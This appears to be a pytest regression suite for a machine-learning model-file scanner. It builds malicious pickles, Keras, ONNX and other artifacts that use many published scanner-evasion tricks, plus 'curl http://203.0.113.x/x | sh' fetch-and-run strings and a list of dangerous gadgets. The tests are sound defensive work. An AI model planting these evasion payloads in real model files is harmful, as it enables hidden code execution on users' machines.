"""One regression test for each published way around model scanners, with samples of our own making."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import random
import struct

import pytest

from aisec_ci.model import Gap
from tests.artifacts.generators import (
    blob,
    call,
    compressed,
    coreml_custom,
    gguf,
    hdf5,
    joblib_array,
    keras_config,
    keras_zip,
    legacy_torch,
    lz4_frame,
    marshalled,
    name,
    npy,
    onnx,
    pickle,
    safetensors,
    saved_model,
    seven_zip,
    shell,
    stack_name,
    state_dict,
    tarred,
    text,
    tf_node,
    tflite,
    torch_zip,
    value,
    zip_link,
    zipped,
    zlib_window,
)
from tests.artifacts.scanning import failing, findings, reports

GADGETS = """
os.system posix.system nt.system os.popen os.execv os.spawnlp subprocess.Popen subprocess.check_output commands.getoutput pty.spawn
builtins.eval builtins.exec __builtin__.eval __builtin__.execfile builtins.compile builtins.__import__ builtins.open builtins.getattr_
importlib.import_module importlib._bootstrap._load runpy.run_path runpy._run_code code.InteractiveInterpreter.runcode codeop.compile_command
pkgutil.resolve_name pydoc.locate pydoc.pipepager cProfile.run cProfile.runctx profile.Profile.runctx trace.Trace.run pdb.run bdb.Bdb.run
doctest.debug_script timeit.timeit timeit.main idlelib.run.Executive.runcode idlelib.pyshell.ModifiedInterpreter.runcommand
idlelib.autocomplete.AutoComplete.get_entity lib2to3.pgen2.grammar.Grammar.loads lib2to3.pgen2.pgen.ParserGenerator.make_label
ctypes.CDLL ctypes.util.find_library _ctypes.dlopen zipimport.zipimporter linecache.getlines logging.config.listen
logging.config.dictConfig types.FunctionType types.CodeType marshal.loads pickle.loads _pickle.loads dill.loads cloudpickle.loads
joblib.load torch.load numpy.load pandas.read_pickle torch.hub.load torch.jit.load torch.utils.collect_env.run
torch.utils.bottleneck.__main__.run_cprofile torch.utils._config_module.load_config torch._dynamo.guards.GuardBuilder.get
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch.jit.unsupported_tensor_ops.execWrapper
torch.ops.load_library torch.utils.cpp_extension.load torch.distributed.rpc.rpc_sync torch.multiprocessing.spawn.spawn
torch.utils.data.datapipes.utils.decoder.basichandlers torch._inductor.codecache.compile_file numpy.f2py.crackfortran.getlincoef
numpy.f2py.crackfortran.myeval numpy.testing._private.utils.runstring numpy.distutils.exec_command.exec_command
operator.methodcaller _operator.attrgetter functools.reduce distutils.file_util.write_file distutils.spawn.spawn ensurepip._run_pip
pip.main pip._internal.main setuptools.sandbox.run_setup uuid._get_command_stdout _aix_support._read_cmd_output _osx_support._read_output
_pyrepl.pager.pipe_pager imaplib.IMAP4_stream mailcap.findmatch multiprocessing.util.spawnv_passfds asyncio.unix_events._UnixSubprocessTransport._start
webbrowser.open smtplib.SMTP ftplib.FTP http.client.HTTPConnection urllib.request.urlopen socket.create_connection telnetlib.Telnet
nntplib.NNTP poplib.POP3 xmlrpc.client.ServerProxy ssl.get_server_certificate requests.get shutil.rmtree shutil.copyfile os.remove
tempfile.mktemp sqlite3.connect sys.modules.get threading.Thread threading.Timer _thread.start_new_thread atexit.register
mlflow.projects.backend.local._run_entry_point pandas.read_csv pandas.eval pandas.core.computation.eval.eval sympy.sympify
IPython.utils.process.system numexpr.evaluate jinja2.Template.render transformers.dynamic_module_utils.get_class_in_module
test.support.script_helper.assert_python_ok unittest.mock.patch site.addpackage venv.create zipapp.create_archive
_posixsubprocess.fork_exec concurrent.futures.process.ProcessPoolExecutor signal.signal faulthandler.dump_traceback
""".replace("builtins.getattr_", "").split()


def split(path: str) -> tuple[str, str]:
    """Split a gadget at its module: classes and what stands behind them belong to the name."""
    parts = path.split(".")
    at = next((i for i, part in enumerate(parts[1:], 1) if part.lstrip("_")[:1].isupper()), len(parts) - 1)
    if parts[:2] == ["sys", "modules"]:
        at = 1
    return ".".join(parts[:at]), ".".join(parts[at:])


@pytest.mark.parametrize("gadget", GADGETS)
def test_gadget(gadget: str) -> None:
    module, attribute = split(gadget)
    found = failing("model.pkl", pickle(call(stack_name(module, attribute), "x", 1)))
    assert found, gadget
    assert f"{attribute}(" in found[0].message


def on_global(op: bytes) -> bytes:
    """OBJ and INST."""
    if op == b"i":
        return b"(" + text("id") + b"ios\nsystem\n."
    return b"\x80\x02(" + name("os", "system") + text("id") + b"o."


def memo_confusion() -> bytes:
    """The name that STACK_GLOBAL takes comes out of the memo, set long before, under a harmless one."""
    body = text("os") + b"q\x050" + text("system") + b"q\x060" + text("math") + b"0" + text("sqrt") + b"0"
    return pickle(call(body + b"h\x05h\x06\x93", "id"), 2)


def missing_memo() -> bytes:
    """A memo entry that was never set, behind the payload."""
    return pickle(call(name("os", "system"), "id") + b"0h\x63", 2)


def through_getattr(attribute: str = "system") -> bytes:
    return pickle(call(call(name("builtins", "getattr"), name("os", "path"), attribute), "id"))


def slot_state() -> bytes:
    """BUILD on a function: the slots of its state become its attributes."""
    return pickle(name("numpy", "sum") + value(({}, {"__globals__": 1})) + b"b")


def frame_lies() -> bytes:
    """A frame that ends inside of an opcode: the C unpickler goes on, the one in Python fails."""
    body = call(name("os", "system"), "id") + STOP
    return b"\x80\x04\x95" + struct.pack("<Q", 7) + body


STOP = b"."

PICKLES = {
    "INST": on_global(b"i"),
    "OBJ": on_global(b"o"),
    "NEWOBJ": pickle(name("subprocess", "Popen") + value(("id",)) + b"\x81"),
    "NEWOBJ_EX": pickle(name("subprocess", "Popen") + value(("id",)) + b"}\x92"),
    "INST, like the header of zlib": b"(S'id'\nios\nsystem\n.",
    "protocol 0": b"cos\nsystem\n(S'id'\ntR.",
    "protocol 0, escapes": b"cos\nsystem\n(S'\\x69\\x64'\ntR.",
    "names of escapes": b"\x80\x02(V\\u006f\\u0073\nV\\u0073ystem\n\x93" + text("id") + b"\x85R.",
    "memo confusion": memo_confusion(),
    "a missing memo entry": missing_memo(),
    "POP after the call": pickle(call(name("os", "system"), "id") + b"0N"),
    "the call inside of a list in a dictionary": pickle(
        b"}(" + text("a") + b"](" + call(name("os", "system"), "id") + b"eu"
    ),
    "the call inside of a persistent identifier": pickle(call(name("os", "system"), "id") + b"Q"),
    "DUP of the function": pickle(name("os", "system") + b"20" + value(("id",)) + b"R"),
    "getattr of a module": through_getattr(),
    "getattr of the internals": through_getattr("__dict__"),
    "computed names": pickle(call(call(name("builtins", "str"), "os") + text("system") + b"\x93", "id")),
    "names joined by a call": pickle(
        call(name("builtins", "getattr"), name("os", "path"), call(name("builtins", "str"), "x"))
    ),
    "an attribute chain": pickle(call(stack_name("numpy", "prod.os.system"), "id")),
    "the internals of a module": pickle(name("numpy", "__builtins__")),
    "an attribute chain of two modules": pickle(call(stack_name("torch", "serialization.os.system"), "id")),
    "a module out of another one": pickle(name("torch.serialization", "os") + b"0N"),
    "slots of a function": slot_state(),
    "state of a module's name": pickle(name("torch", "load") + b"}" + b"b"),
    "partial": pickle(call(name("functools", "partial"), name("os", "system"), "id")),
    "partial, then called": pickle(call(call(name("functools", "partial"), name("os", "system")), "id")),
    "map": pickle(call(name("builtins", "map"), name("os", "system"), value(("id",)))),
    "marshal and a function type": pickle(
        call(call(name("types", "FunctionType"), call(name("marshal", "loads"), blob(b"\xe3" + b"\0" * 20)), {}))
    ),
    "a function of an unknown package": pickle(call(name("evil_helpers.tasks", "run_now"), "job")),
    "a class of an unknown package with a command": pickle(
        name("weird.jobs", "Task") + value(("curl http://203.0.113.7/x | sh",)) + b"\x81"
    ),
    "a class made on the spot": pickle(call(name("builtins", "type"), "X", (), {})),
    "nested pickle": pickle(call(name("torch.storage", "_load_from_bytes"), blob(shell()))),
    "nested pickle in a call of loads": pickle(call(name("pickle", "loads"), blob(shell()))),
    "an import by numpy": pickle(call(name("numpy.core", "_ufunc_reconstruct"), "os", "system")),
    "an import by cloudpickle": pickle(call(name("cloudpickle.cloudpickle", "subimport"), "subprocess")),
    "an attribute by dill": pickle(
        call(name("dill._dill", "_get_attr"), call(name("dill._dill", "_import_module"), "os"), "system")
    ),
    "a rebuilder as a cover": pickle(
        call(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), None)
    ),
    "code in a graph of torch.fx": pickle(
        call(
            name("torch.fx.graph_module", "reduce_graph_module"),
            value({"_code": "import os\ndef forward(self, x):\n    os.system('id')\n"}),
            "",
        )
    ),
    "a codec": pickle(call(name("_codecs", "decode"), "bf", "rot13")),
    "broken behind the payload": shell()[:-1] + b"\xff",
    "cut off behind the payload": shell()[:-1],
    "frames that lie": frame_lies(),
    "a frame longer than the stream": b"\x80\x04\x95"
    + struct.pack("<Q", 1 << 40)
    + call(name("os", "system"), "id")
    + STOP,
    "a protocol that does not exist": b"\x80\x05" + call(name("os", "system"), "id") + STOP,
    "second stream": pickle(b"N") + shell(),
    "third stream behind junk": pickle(b"N") + b"\x01\x02junk\xfe" * 20 + shell(),
    "long operand in front": pickle(blob(b"\0" * 3_000_000) + b"0" + call(name("os", "system"), "id")),
    "many values in front": pickle(b"](" + b"K\x01" * 700_000 + b"e0" + call(name("os", "system"), "id")),
    "a name at the edge of the window": pickle(
        blob(b"\0" * ((1 << 20) - 20)) + b"0" + call(name("os", "system"), "id")
    ),
    "no PROTO, protocol 4 opcodes": call(stack_name("os", "system"), "id") + STOP,
    "joblib, behind an array": joblib_array(call(name("os", "system"), "id")),
    "old torch": legacy_torch(shell()),
    "numpy objects": npy("|O", "(1,)", shell()),
}


@pytest.mark.parametrize("kind", PICKLES)
def test_pickle(kind: str) -> None:
    assert failing("model.pkl", PICKLES[kind]), findings("model.pkl", PICKLES[kind])


def test_sizes_beyond_memory_are_streamed(tmp_path: object) -> None:
    """The same pickles through the streaming reader find the same."""
    import io

    from aisec_ci.detectors.artifacts import create
    from aisec_ci.detectors.interface import Context, Tree
    from aisec_ci.model import Finding
    from aisec_ci.sources import SourceFile
    from tests.artifacts.scanning import CATALOG

    for kind, data in PICKLES.items():
        file = SourceFile.of_bytes("model.pkl", data)
        file.__class__ = type(
            "Streamed", (SourceFile,), {"small": False, "head": property(lambda self: self._opener().read(4096))}
        )
        assert isinstance(file.open(), io.BytesIO)
        detector = create(Context(CATALOG, Tree((), lambda _: None), frozenset()))
        found = [r for r in detector.scan(file) if isinstance(r, Finding)]
        assert {(f.rule_id, f.message) for f in found} == {
            (f.rule_id, f.message) for f in findings("model.pkl", data)
        }, kind


NAMES = [
    "model",
    "model.bin",
    "model.dat",
    "weights.ckpt",
    "notes.txt",
    "logo.png",
    "model.safetensors",
    "model.npy",
    "a.model",
    "x.th",
]


@pytest.mark.parametrize("path", NAMES)
def test_any_name(path: str) -> None:
    assert failing(path, shell())
    assert failing(path, torch_zip(shell()))


@pytest.mark.parametrize("path", ["model.pkl", "model", "model.txt", "weights.dat"])
def test_any_name_protocol_0(path: str) -> None:
    assert failing(path, PICKLES["protocol 0"])


CONTAINERS = {
    "gzip": gzip.compress(shell()),
    "bzip2": bz2.compress(shell()),
    "xz": lzma.compress(shell()),
    "lzma": lzma.compress(shell(), lzma.FORMAT_ALONE),
    "zlib": compressed(shell()),
    "zlib, no compression": compressed(shell(), 0),
    "lz4": lz4_frame(shell()),
    "old joblib": b"ZF0x" + b"0000000000000000050" + compressed(shell()),
    "zip": zipped({"m.pkl": shell()}),
    "zip, deflated": zipped({"m.pkl": shell()}, 8),
    "zip, bzip2": zipped({"m.pkl": shell()}, 12),
    "zip, lzma": zipped({"m.pkl": shell()}, 14),
    "zip, no ending": zipped({"readme": shell()}),
    "zip in zip": zipped({"a.zip": zipped({"b": shell()})}),
    "tar": tarred({"m.pkl": shell()}),
    "tar in gzip": gzip.compress(tarred({"m": shell()})),
    "torch": torch_zip(shell()),
    "torch, another member": torch_zip(None, **{"archive/extra": shell()}),
    "torch, among the storages": torch_zip(None, **{"archive/data/1": shell()}),
    "npz": zipped({"a.npy": npy(), "b.npy": npy("|O", "(1,)", shell())}),
    "mar": zipped({"MAR-INF/MANIFEST.json": b"{}", "model.pt": torch_zip(shell())}),
    "nemo": tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": torch_zip(shell())}),
    "skops": zipped({"schema.json": b"{}", "1.pkl": shell()}),
    "prefix in front": b"#!/bin/sh\nexit\n" + torch_zip(shell()),
    "comment behind": torch_zip(shell()) + b"x" * 300,
}


@pytest.mark.parametrize("kind", CONTAINERS)
def test_container(kind: str) -> None:
    assert failing("model.bin", CONTAINERS[kind]), findings("model.bin", CONTAINERS[kind])


def tampered(change: str) -> bytes:
    """A file of torch whose headers lie."""
    data = bytearray(torch_zip(shell()))
    local, central = data.find(b"PK\x03\x04"), data.find(b"PK\x01\x02")
    end = data.find(b"PK\x05\x06")
    spots = {
        "encrypted, central": (central + 8, b"\x01\x00"),
        "encrypted, local": (local + 6, b"\x01\x00"),
        "checksum": (central + 16, b"\0\0\0\0"),
        "local checksum": (local + 14, b"\0\0\0\0"),
        "packed size": (central + 20, b"\x02\0\0\0"),
        "packed size too large": (central + 20, b"\xff\xff\xff\x7f"),
        "size": (central + 24, b"\x01\0\0\0"),
        "no size": (central + 20, b"\0\0\0\0\0\0\0\0"),
        "method": (central + 10, b"\x08\x00"),
        "unknown method": (central + 10, b"\x63\x00"),
        "local method": (local + 8, b"\x08\x00"),
        "local name": (local + 30, b"archive/data.txt"),
        "central name": (central + 46, b"archive/data.txt"),
        "count of members": (end + 8, b"\0\0\0\0"),
        "offset of the directory": (end + 16, b"\0\0\0\0"),
        "end": (end, b"XX"),
        "directory": (central, b"XX"),
        "version": (central + 6, b"\xff\xff"),
    }
    at, patch = spots[change]
    data[at : at + len(patch)] = patch
    return bytes(data)


@pytest.mark.parametrize(
    "change",
    [
        "encrypted, central", "encrypted, local", "checksum", "local checksum", "packed size", "packed size too large", "size", "no size",
        "method", "unknown method", "local method", "local name", "central name", "count of members", "offset of the directory", "end",
        "directory", "version",
    ],
)  # fmt: skip
def test_tampered_zip(change: str) -> None:
    assert failing("model.pt", tampered(change)), findings("model.pt", tampered(change))


OTHERS = {
    "zip slip": ("a.zip", zipped({"../x": b"1"})),
    "zip slip, backslashes": ("a.zip", zipped({"..\\..\\x": b"1"})),
    "zip, drive": ("a.zip", zipped({"C:\\x": b"1"})),
    "zip link": ("a.zip", zip_link("x", "../../y")),
    "tar slip": ("a.tar", tarred({"../x": b"1"})),
    "tar link": ("a.tar", tarred({}, {"x": "/etc"})),
    "npz slip": ("a.npz", zipped({"../a.npy": npy()})),
    "Keras Lambda": (
        "m.keras",
        keras_zip(
            {
                "class_name": "Lambda",
                "module": "keras.layers",
                "config": {"function": {"class_name": "__lambda__", "config": {"code": marshalled()}}},
            }
        ),
    ),
    "Keras Lambda in HDF5": (
        "m.h5",
        hdf5(keras_config({"class_name": "Lambda", "config": {"function": [marshalled(), None, None]}})),
    ),
    "Keras Lambda in a SavedModel": (
        "saved_model.pb",
        saved_model(keras='{"class_name": "Lambda", "config": {"function": ["' + marshalled() + '"]}}'),
    ),
    "Keras module": (
        "m.keras",
        keras_zip({"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}),
    ),
    "Keras module by class": (
        "m.keras",
        keras_zip({"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}}),
    ),
    "Keras foreign module": ("m.keras", keras_zip({"module": "evil_layers.core", "class_name": "Layer", "config": {}})),
    "Keras unlock": (
        "m.keras",
        keras_zip({"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}),
    ),
    "Keras fetches": ("m.keras", keras_zip({"module": "keras.utils", "class_name": "function", "config": "get_file"})),
    "Keras torch module": (
        "m.keras",
        keras_zip(
            {
                "module": "keras.layers",
                "class_name": "TorchModuleWrapper",
                "config": {"module": base64.b64encode(torch_zip(shell())).decode()},
            }
        ),
    ),
    "TensorFlow writes": ("saved_model.pb", saved_model(tf_node("WriteFile"))),
    "TensorFlow reads in a function": ("saved_model.pb", saved_model(tf_node("ReadFile"), in_function=True)),
    "TensorFlow Python": ("saved_model.pb", saved_model(tf_node("EagerPyFunc"))),
    "ONNX above": ("m.onnx", onnx("../../x")),
    "ONNX of another name": ("weights.dat", onnx("../../x")),
    "ONNX without a producer": ("weights.bin", onnx("../../x", producer="")),
    "ONNX absolute": ("m.onnx", onnx("/etc/passwd")),
    "ONNX remote": ("m.onnx", onnx("http://203.0.113.3/w")),
    "ONNX attribute": ("m.onnx", onnx("x", key="__class__")),
    "ONNX Python": ("m.onnx", onnx(operator="PyOp", domain="ai.onnx.contrib")),
    "TFLite Flex": ("m.tflite", tflite("FlexWriteFile")),
    "GGUF template": ("m.gguf", gguf({"tokenizer.chat_template": "{{ ().__class__ }}"})),
    "Core ML layer": ("m.mlmodel", coreml_custom("os.system")),
    "NeMo": ("m.nemo", tarred({"model_config.yaml": b"_target_: subprocess.run\n"})),
    "NeMo, standard library": ("m.nemo", tarred({"model_config.yaml": b"x:\n  _target_: 'colorsys.hls_to_rgb'\n"})),
    "PMML entity": ("m.pmml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML>&a;</PMML>'),
    "PMML script": ("m.pmml", b"<PMML><Extension><script>os.system('id')</script></Extension></PMML>"),
    "skops": (
        "m.skops",
        zipped({"schema.json": b'{"__module__": "os", "__class__": "system", "__loader__": "FunctionNode"}'}),
    ),
    "torch7": ("m.t7", b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1os.execute('id')"),
    "Lua code": ("m.t7", b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1" + b"\0" * 40 + b"\x1bLJ\x02"),
    "R": ("m.rds", gzip.compress(b"X\n\0\0\0\x03\0\x04\0\0" + b"\0\0\0\x01\0\x04\0\x09\0\0\0\x06system" + b"\0" * 9)),
    "Paddle": ("m.pdmodel", b"\x0a\x20\x08\x00" + b"\x22\x0b\x1a\x07py_func" + b"\0" * 30),
    "MXNet": (
        "m-symbol.json",
        b'{"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "__import__(\'os\').system(\'id\')"}}], "arg_nodes": []}',
    ),
    "MessagePack": ("m.msgpack", b"\x81\xa1w\xd9\x20" + b"__import__('os').system('id')".ljust(32)),
    "TensorRT": ("m.engine", b"ptrt" + b"\0" * 64 + b"__import__('os').system('id')"),
    "7z as torch": ("m.pt", b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 64),
}


@pytest.mark.parametrize("kind", OTHERS)
def test_other_format(kind: str) -> None:
    path, data = OTHERS[kind]
    assert failing(path, data), findings(path, data)


def test_ordinary_models_are_silent() -> None:
    for path, data in {
        "w.pt": torch_zip(),
        "w.pth": legacy_torch(state_dict()),
        "m.joblib": joblib_array(),
        "m.keras": keras_zip(),
        "m.h5": hdf5(keras_config()),
        "m.onnx": onnx(),
        "saved_model.pb": saved_model(),
        "m.tflite": tflite(),
        "a.npy": npy(),
        "m.gguf": gguf({"general.name": "x"}),
    }.items():
        assert not [f for f in findings(path, data) if f.rule_id != "pickle-model"], path


EMBEDDED = {
    "a picture": ("logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 40 + shell()),
    "safetensors": ("m.safetensors", safetensors() + shell()),
    "GGUF": ("m.gguf", gguf({"a": "b"}) + shell()),
    "npy": ("m.npy", npy() + shell()),
    "HDF5": ("m.h5", hdf5(keras_config()) + shell()),
    "HDF5, in the middle": ("m.h5", hdf5() + b"\0\0cos\nsystem\n(S'id'\ntR.\0\0"),
    "TFLite": ("m.tflite", tflite() + shell()),
    "ZIP": ("m.pt", torch_zip() + shell()),
    "gzip": ("m.pkl", gzip.compress(pickle(b"N")) + shell()),
    "old torch": ("m.pth", legacy_torch(state_dict()) + shell()),
    "a header of its own": ("m.bin", b"MYMODEL\0\1\2\3" + shell()),
    "a header of text": ("m.bin", b"# my model\nversion 1\n" + shell()),
}


@pytest.mark.parametrize("kind", EMBEDDED)
def test_embedded(kind: str) -> None:
    path, data = EMBEDDED[kind]
    assert failing(path, data), findings(path, data)


def test_what_looks_like_a_pickle_by_chance_is_silent() -> None:
    noise = random.Random(1).randbytes(1 << 20)
    for path in ("a.png", "m.bin", "m.h5", "weights.dat"):
        assert not findings(path, b"\0\1" + noise + b"\x80\x04c__torch__.x\n_script\n(tR.")


SEVEN = ["stored", "lzma", "lzma2", "x86", "deflate", "bzip2"]


@pytest.mark.parametrize("method", SEVEN)
@pytest.mark.parametrize("path", ["a.7z", "model.pt", "weights"])
def test_seven_zip(method: str, path: str) -> None:
    data = seven_zip("data.pkl", shell(command="curl http://203.0.113.9/x | sh # " + "x" * 200), method)
    (found,) = [f for f in failing(path, data) if f.rule_id == "malicious-pickle"]
    assert "member data.pkl" in found.location.inside


def test_seven_zip_leaves_its_folder() -> None:
    assert failing("a.7z", seven_zip("../../x", b"1"))
    assert not findings("a.7z", seven_zip("notes.txt", b"1" * 300, "lzma2"))


def test_what_a_seven_zip_hides_is_said() -> None:
    assert any(
        "encryption" in r.reason for r in reports("a.7z", seven_zip("x", b"1", "encrypted")) if isinstance(r, Gap)
    )


def code_object(*names: str, constant: str = "x") -> bytes:
    """How cloudpickle writes a function's code."""
    code = call(name("cloudpickle.cloudpickle", "_builtin_type"), "CodeType")
    return call(code, 1, 0, 0, 1, 2, 3, blob(b"\x97\0"), (None, constant), names, ("x",), "f.py", "f", 1, blob(b""))


def carried_function(*names: str, constant: str = "x") -> bytes:
    """How cloudpickle writes a function."""
    return call(
        name("cloudpickle.cloudpickle", "_make_function"), code_object(*names, constant=constant), {}, "f", None, None
    )


def test_ordinary_carried_functions_do_not_fail() -> None:
    instance = (
        call(name("cloudpickle.cloudpickle", "_make_skeleton_class"), name("builtins", "type"), "Net", ()) + b")\x81}b"
    )
    slices = call(call(name("dill._dill", "_load_type"), "slice"), 0, 2, None)
    for body in (carried_function("np", "log"), carried_function("eval", "model"), instance, slices):
        assert not failing("model.pkl", pickle(body)), findings("model.pkl", pickle(body))
    assert not [f for f in findings("model.pkl", pickle(slices)) if f.rule_id != "pickle-model"]


CODE = {
    "a command": carried_function("os", "system"),
    "a process": carried_function("subprocess", "Popen"),
    "an import by name": carried_function("__import__"),
    "a command among the constants": carried_function("f", constant="curl http://203.0.113.9/x | sh"),
    "called": call(carried_function("np", "log"), "x"),
    "called by map": call(name("itertools", "starmap"), carried_function("np"), ()),
    "no type": call(call(name("cloudpickle.cloudpickle", "_builtin_type"), "sys"), "x"),
    "code of dill": call(name("dill._dill", "_create_code"), blob(b""), ("os", "popen"), "f"),
}


@pytest.mark.parametrize("kind", CODE)
def test_carried_code(kind: str) -> None:
    assert failing("model.pkl", pickle(CODE[kind])), findings("model.pkl", pickle(CODE[kind]))


STREAMS = {
    **{f"zlib, window of {bits}": zlib_window(shell(), bits) for bits in (9, 12, 14)},
    **{f"lzma, preset {level}": lzma.compress(shell(), lzma.FORMAT_ALONE, preset=level) for level in (0, 3, 6, 9)},
}


@pytest.mark.parametrize("kind", STREAMS)
def test_odd_streams(kind: str) -> None:
    assert failing("m.joblib", STREAMS[kind]), findings("m.joblib", STREAMS[kind])
